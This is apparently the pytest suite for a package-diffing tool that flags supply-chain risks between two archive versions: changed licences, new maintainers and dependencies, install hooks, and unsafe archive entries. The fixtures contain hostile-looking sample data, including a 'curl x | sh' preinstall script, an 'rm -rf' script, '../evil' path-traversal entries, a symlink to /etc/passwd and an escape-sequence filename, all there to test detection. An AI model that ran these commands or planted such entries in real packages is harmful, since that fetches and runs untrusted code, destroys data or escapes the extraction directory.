"""What two archives tell beside their files, as findings of their diff."""

from __future__ import annotations

import base64
import hashlib
import json
from typing import TYPE_CHECKING

import msgspec
import pytest

from packages.archive_building import END, Zip, gem_of, header, member, padded, tar_of, tgz_of
from packages.test_package_command import run
from packages.test_package_metadata import GEM
from versiondiff.packages import (
    ArchiveReasonKind,
    EntryFlag,
    PackageDiff,
    PackageFinding,
    PackageFindingKind,
    finding_line,
    package_diff,
    package_diff_json,
    package_page,
    read_package,
    render_package,
)
from versiondiff.records import LANGUAGES

if TYPE_CHECKING:
    from pathlib import Path

Kind = PackageFindingKind


def npm(version: str, files: dict[str, bytes] | None = None, **members: object) -> bytes:
    manifest = json.dumps({"name": "thing", "version": version, **members}).encode()
    folder = {"package.json": manifest, "index.js": b"1\n", **(files or {})}
    return tgz_of({f"package/{path}": content for path, content in folder.items()})


def compared(old: bytes, new: bytes) -> PackageDiff:
    return package_diff(read_package(old), read_package(new))


def said(diff: PackageDiff) -> list[tuple[Kind, str | None, str | None, str | None]]:
    return [(one.kind, one.path, one.old, one.new) for one in diff.findings]


def test_what_a_package_says_of_itself_is_compared() -> None:
    old = npm(
        "1.0",
        license="MIT",
        author="Ann <ann@example.org>",
        dependencies={"left-pad": "^1.0", "gone": "1"},
        devDependencies={"tap": "1"},
        scripts={"postinstall": "node setup.js", "install": "true", "test": "tap"},
        bin={"thing": "index.js"},
    )
    new = npm(
        "1.1",
        license="BUSL-1.1",
        author="Eve <eve@example.org>",
        dependencies={"left-pad": "^2.0", "evil": "*"},
        devDependencies={"tap": "1"},
        scripts={"postinstall": "node other.js", "preinstall": "curl x | sh", "test": "rm -rf"},
        bin={"thing": "index.js", "ls": "index.js"},
    )
    assert said(compared(old, new)) == [
        (Kind.LICENCE_CHANGED, None, "MIT", "BUSL-1.1"),
        (Kind.NEW_PERSON, None, None, "Eve <eve@example.org>"),
        (Kind.PERSON_GONE, None, "Ann <ann@example.org>", None),
        (Kind.DEPENDENCY_CHANGED, None, "left-pad ^1.0", "left-pad ^2.0"),
        (Kind.NEW_DEPENDENCY, None, None, "evil *"),
        (Kind.NEW_COMMAND, None, None, "ls"),
        (Kind.NEW_SCRIPT, None, None, "preinstall: curl x | sh"),
        (Kind.SCRIPT_CHANGED, None, "postinstall: node setup.js", "postinstall: node other.js"),
    ]
    # What only went away, or stands in another order, is none.
    assert said(compared(new, old))[0] == (Kind.LICENCE_CHANGED, None, "BUSL-1.1", "MIT")
    assert said(compared(old, old)) == []


def test_a_dependency_that_is_asked_for_twice_is_followed_by_its_name() -> None:
    old = npm("1", dependencies={"a": "1"}, devDependencies={"a": "1"})
    new = npm("2", dependencies={"A": "1"}, peerDependencies={"a": "1"})
    assert said(compared(old, new)) == [
        (Kind.DEPENDENCY_CHANGED, None, "a 1", "A 1"),
        (Kind.DEPENDENCY_CHANGED, None, "a 1 (development)", "a 1 (peer)"),
    ]


def test_a_marker_in_other_quotes_is_the_same() -> None:
    def sdist(quote: str) -> bytes:
        metadata = f"Name: a\nVersion: 1\nRequires-Dist: b; extra == {quote}c{quote}\n"
        return tgz_of({"a-1/PKG-INFO": metadata.encode()})

    assert said(compared(sdist("'"), sdist('"'))) == []


def test_another_name_or_kind_is_told() -> None:
    crate = tgz_of({"thing-2/Cargo.toml": b'[package]\nname = "thinq"\nversion = "2"\n'})
    assert said(compared(npm("1"), crate)) == [
        (Kind.KIND_CHANGED, None, "npm", "crate"),
        (Kind.NAME_CHANGED, None, "thing", "thinq"),
    ]


def test_the_files_that_scripts_run_are_followed() -> None:
    scripts = {"postinstall": "FORCE=1 node './scripts/set-up' && ./tools/x.sh"}
    files = {"scripts/set-up.js": b"1\n", "tools/x.sh": b"true\n", "scripts/y.js": b"1\n"}
    old = npm("1", files, scripts=scripts)
    new = npm("1", dict.fromkeys(files, b"2\n"), scripts=scripts)
    words = f"postinstall: {scripts['postinstall']}"
    assert said(compared(old, new)) == [
        (Kind.SCRIPT_CHANGED, "scripts/set-up.js", None, words),
        (Kind.SCRIPT_CHANGED, "tools/x.sh", None, words),
    ]


def test_a_hook_is_told_once() -> None:
    files = {"ext/thing/extconf.rb": b"1\n", "lib/x.rb": b"1\n"}
    plain = GEM.replace(b"extensions: [ext/thing/extconf.rb]\n", b"")
    old = gem_of({"lib/x.rb": b"1\n"}, plain)
    added = compared(old, gem_of(files, GEM))
    assert said(added) == [(Kind.NEW_HOOK, "data/ext/thing/extconf.rb", None, None)]
    changed = compared(gem_of(files, GEM), gem_of(dict.fromkeys(files, b"2\n"), GEM))
    assert said(changed) == [(Kind.HOOK_CHANGED, "data/ext/thing/extconf.rb", None, None)]
    # By its name it runs nothing: the metadata alone say so.
    odd = GEM.replace(b"extconf.rb", b"Build")
    files = {"ext/thing/Build": b"1\n"}
    assert said(compared(gem_of(files, plain), gem_of(files, odd))) == [
        (Kind.NEW_SCRIPT, None, None, "ext/thing/Build")
    ]
    assert said(compared(gem_of(files, odd), gem_of(dict.fromkeys(files, b"2\n"), odd))) == [
        (Kind.SCRIPT_CHANGED, "data/ext/thing/Build", None, "ext/thing/Build")
    ]


def test_metadata_that_can_not_be_read_are_told() -> None:
    broken = tgz_of({"package/package.json": b"{", "package/index.js": b"1\n"})
    diff = compared(npm("1"), broken)
    assert (Kind.METADATA_UNREADABLE, "package.json", None, None) in said(diff)
    assert not compared(broken, broken).differs


ENTRIES = [
    member("a", b"1\n"),
    member("dev", type=b"3", devmajor=1, devminor=3),
    member("../evil", b"x\n"),
    member("out", "../../etc/passwd"),
    member("a", b"2\n"),
    member("A", b"3\n"),
    member("x\x1b[2J", b"4\n"),
]


def test_every_remarkable_entry_of_the_new_archive_is_told() -> None:
    diff = compared(tar_of({"a": b"1\n"}), tar_of(ENTRIES))
    assert [file.path for file in diff.files] == ["A", "a", "out", "x\x1b[2J"]
    entries = [one for one in diff.findings if one.kind.value.startswith("entry")]
    assert [(one.kind, one.path, one.new, one.flags) for one in entries] == [
        (Kind.ENTRY_NOT_COMPARED, "a", None, (EntryFlag.DUPLICATE, EntryFlag.CASE_TWIN)),
        (Kind.ENTRY_NOT_COMPARED, "dev", None, (EntryFlag.DEVICE,)),
        (Kind.ENTRY_NOT_COMPARED, "../evil", None, (EntryFlag.LEAVES_ROOT,)),
        (Kind.ENTRY, "a", None, (EntryFlag.DUPLICATE, EntryFlag.CASE_TWIN)),
        (Kind.ENTRY, "A", None, (EntryFlag.CASE_TWIN,)),
    ]
    # A flag that says what a finding of the file says is not told twice.
    kinds = [(one.kind, one.path) for one in diff.findings]
    assert (Kind.LINK_OUTSIDE, "out") in kinds
    assert (Kind.HIDDEN_IN_NAME, "x\x1b[2J") in kinds


def test_an_entry_that_stayed_is_not_told_again() -> None:
    old, new = tar_of(ENTRIES), tar_of([*ENTRIES, member("b", b"1\n")])
    diff = compared(old, new)
    assert [file.path for file in diff.files] == ["b"]
    assert diff.findings == ()
    assert not compared(old, old).differs


def test_a_listed_entry_with_another_content_is_told() -> None:
    old = tar_of([member("../evil", b"x\n"), member("a", b"1\n")])
    new = tar_of([member("../evil", b"y\n"), member("a", b"1\n")])
    diff = compared(old, new)
    assert diff.files == ()
    assert diff.differs
    assert [(one.kind, one.path) for one in diff.findings] == [
        (Kind.ENTRY_NOT_COMPARED, "../evil"),
        (Kind.ENTRY_GONE, "../evil"),
    ]
    assert render_package(diff).splitlines() == [
        "Files changed (0)",
        "",
        "Look twice (2)",
        "  ../evil: leads out of the root; not compared",
        "  ../evil: no longer in the archive (leads out of the root)",
    ]
    assert "leads out of the root" in package_page(diff)


def test_an_entry_that_is_gone_is_told_where_no_file_shows_it() -> None:
    diff = compared(tar_of(ENTRIES), tar_of({"a": b"2\n"}))
    assert [(one.kind, one.path) for one in diff.findings] == [
        (Kind.ENTRY_GONE, "a"),
        (Kind.ENTRY_GONE, "dev"),
        (Kind.ENTRY_GONE, "../evil"),
    ]


def test_an_encrypted_entry_may_have_changed() -> None:
    archive = Zip()
    archive.add(b"a", b"1\n")
    archive.add(b"b", b"2\n", flags=1)
    diff = compared(archive.bytes(), archive.bytes())
    assert [(one.kind, one.path) for one in diff.findings] == [
        (Kind.ARCHIVE, None),
        (Kind.ENTRY_NOT_COMPARED, "b"),
    ]
    assert diff.differs


def test_reasons_are_told_of_the_new_archive_and_of_the_old_one() -> None:
    def archive(*, listed: bool) -> bytes:
        made = Zip()
        made.add(b"a", b"1\n")
        made.add(b"b", b"2\n", listed=listed)
        return made.bytes()

    good, bad = archive(listed=True), archive(listed=False)
    for old, kind in ((good, Kind.ARCHIVE), (bad, Kind.ARCHIVE)):
        diff = compared(old, bad)
        assert kind in [one.kind for one in diff.findings]
        (reason,) = [one.reason for one in diff.findings if one.kind is kind]
        assert reason is not None
        assert (reason.kind, reason.count, reason.name) == (
            ArchiveReasonKind.UNLISTED_ENTRY,
            1,
            "b",
        )
    assert not compared(bad, bad).differs
    diff = compared(bad, good)
    assert [one.kind for one in diff.findings] == [Kind.OLD_ARCHIVE]
    assert finding_line(diff.findings[0]) == (
        "the old archive: entries that the directory does not list: 1, first b"
    )


def wheel(version: str, files: dict[bytes, bytes], *, forget: bytes = b"") -> bytes:
    folder = f"thing-{version}.dist-info".encode()
    files = {
        **files,
        folder + b"/WHEEL": b"Wheel-Version: 1.0\n",
        folder + b"/METADATA": f"Name: thing\nVersion: {version}\n".encode(),
    }
    rows = [
        b"%s,sha256=%s,%d\n"
        % (name, base64.urlsafe_b64encode(hashlib.sha256(text).digest()).rstrip(b"="), len(text))
        for name, text in files.items()
        if name != forget
    ]
    files[folder + b"/RECORD"] = b"".join(rows) + folder + b"/RECORD,,\n"
    made = Zip()
    for name, content in files.items():
        made.add(name, content)
    return made.bytes()


def test_a_file_that_the_record_never_had_is_told() -> None:
    old = wheel("1.0", {b"a.py": b"1\n"})
    new = wheel("1.1", {b"a.py": b"1\n", b"b.py": b"2\n"}, forget=b"b.py")
    diff = compared(old, new)
    assert said(diff) == [(Kind.RECORD_NOT_LISTED, "b.py", None, None)]
    assert finding_line(diff.findings[0]) == "b.py: not listed in RECORD"
    assert not compared(new, new).differs


def test_paths_narrow_entries_and_leave_what_is_about_the_whole() -> None:
    new = tar_of([member("x/dev", type=b"3"), member("y/dev", type=b"3"), member("xy", type=b"6")])
    diff = package_diff(read_package(tar_of({"a": b""})), read_package(new), paths=["x"])
    assert [one.path for one in diff.findings] == ["x/dev"]
    old, other = npm("1"), npm("2", license="MIT")
    diff = package_diff(read_package(old), read_package(other), paths=["index.js"])
    assert [one.kind for one in diff.findings] == [Kind.LICENCE_CHANGED]


def test_metadata_are_compared_of_whatever_holds_them(tmp_path: Path) -> None:
    old: dict[str, bytes] = {
        "package.json": b'{"name": "thing", "scripts": {"postinstall": "node x"}}',
        "x.js": b"1\n",
        "pyproject.toml": b"""
[project]
name = "thing"
license = "MIT"
authors = [{name = "Ann", email = "ann@example.org"}]
dependencies = ["one>=1"]
[project.optional-dependencies]
fast = ["two; python_version < '3.12'"]
""",
        "Cargo.toml": b'[package]\nname = "thing"\n[dependencies]\nserde = "1"\n',
    }
    new: dict[str, bytes] = {
        "package.json": old["package.json"],
        "x.js": b"2\n",
        "pyproject.toml": old["pyproject.toml"]
        .replace(b"MIT", b"ISC")
        .replace(b"Ann", b"Eve")
        .replace(b'one>=1"', b'one>=1", "six"')
        .replace(b"two", b"too"),
        "Cargo.toml": old["Cargo.toml"].replace(b'"1"', b'"2"'),
    }
    found = said(package_diff(old, new))
    assert found == [
        (Kind.SCRIPT_CHANGED, "x.js", None, "postinstall: node x"),
        (Kind.DEPENDENCY_CHANGED, None, "serde 1", "serde 2"),
        (Kind.LICENCE_CHANGED, None, "MIT", "ISC"),
        (Kind.NEW_PERSON, None, None, "Eve <ann@example.org>"),
        (Kind.PERSON_GONE, None, "Ann <ann@example.org>", None),
        (Kind.NEW_DEPENDENCY, None, None, "six"),
        (Kind.NEW_DEPENDENCY, None, None, 'too (python_version < "3.12" and extra == "fast")'),
    ]
    for name, files in (("old", old), ("new", new)):
        (tmp_path / name).mkdir()
        for path, content in files.items():
            (tmp_path / name / path).write_bytes(content)
    assert said(package_diff(tmp_path / "old", str(tmp_path / "new"))) == found
    archives = [
        read_package(tgz_of({f"package/{path}": content for path, content in files.items()}))
        for files in (old, new)
    ]
    assert said(package_diff(*archives)) == found[:1]
    assert said(package_diff(archives[0], new)) == found[:1]
    assert said(package_diff(archives[0].files, archives[1].files)) == found


@pytest.mark.parametrize("scope", ["x", "x/", "./x", "x//"])
def test_the_scope_of_findings_is_that_of_the_files(scope: str) -> None:
    new = tar_of(
        [member("x/setup.py", b"1\n"), member("x/dev", type=b"3"), member("y/dev", type=b"3")]
    )
    diff = package_diff(None, read_package(new), paths=[scope])
    assert [one.path for one in diff.files] == ["x/setup.py"]
    assert [one.path for one in diff.findings] == ["x/setup.py", "x/dev"]
    for everything in ("", "."):
        diff = package_diff(None, read_package(new), paths=[everything])
        assert [one.path for one in diff.findings] == ["x/setup.py", "x/dev", "y/dev"]


def test_what_is_new_altogether_has_nothing_to_be_compared_with() -> None:
    package = read_package(npm("1", license="MIT", dependencies={"a": "1"}))
    assert package_diff(package, package.files).findings == ()
    assert package_diff(None, package).findings == ()
    hostile = read_package(tar_of(ENTRIES))
    assert Kind.ENTRY in [one.kind for one in package_diff(None, hostile).findings]
    assert Kind.ENTRY_GONE in [one.kind for one in package_diff(hostile, None).findings]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_json_and_the_page_have_them(language: str) -> None:
    old, new = read_package(tar_of({"a": b"1\n"})), read_package(tar_of(ENTRIES)[:-1024])
    diff = package_diff(old, new)
    parts, differs = package_diff_json(old, new)
    text = b"".join(parts)
    assert differs
    assert text == msgspec.json.encode(diff)
    assert msgspec.json.decode(text, type=PackageDiff) == diff
    page = package_page(diff, language=language)  # type: ignore[arg-type]
    assert "../evil" in page
    assert "\x1b" not in page


def test_the_end_says_that_an_entry_changed(tmp_path: Path) -> None:
    for name, content in (("old.tar", b"x\n"), ("new.tar", b"y\n"), ("same.tar", b"y\n")):
        archive = header(b"a", 2) + padded(b"1\n") + header(b"../b", 2) + padded(content) + END
        (tmp_path / name).write_bytes(archive)
    done = run("--stat", "--exit-code", "old.tar", "new.tar", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (1, "")
    assert "../b: leads out of the root; not compared" in done.stdout
    for option in ("--json", "--html=page.html"):
        assert run("--exit-code", option, "old.tar", "new.tar", cwd=tmp_path).returncode == 1
        assert run("--exit-code", option, "new.tar", "same.tar", cwd=tmp_path).returncode == 0


def test_many_entries_take_no_time() -> None:
    names = [f"d{number % 300}/f{number}" for number in range(70_000)]
    new = tar_of({f"../{name}": b"" for name in names[:500]} | dict.fromkeys(names, b""))
    diff = compared(tar_of({"a": b"1\n"}), new)
    assert len(diff.files) == 70_001
    assert len(diff.findings) == 500


def test_a_side_that_is_empty_is_said_to_be() -> None:
    finding = PackageFinding(kind=Kind.LICENCE_CHANGED, old="", new="MIT")
    assert finding_line(finding) == "licence changed: (none) → MIT"
    assert finding_line(finding, "ja") == "ライセンスが変わりました: (なし) → MIT"
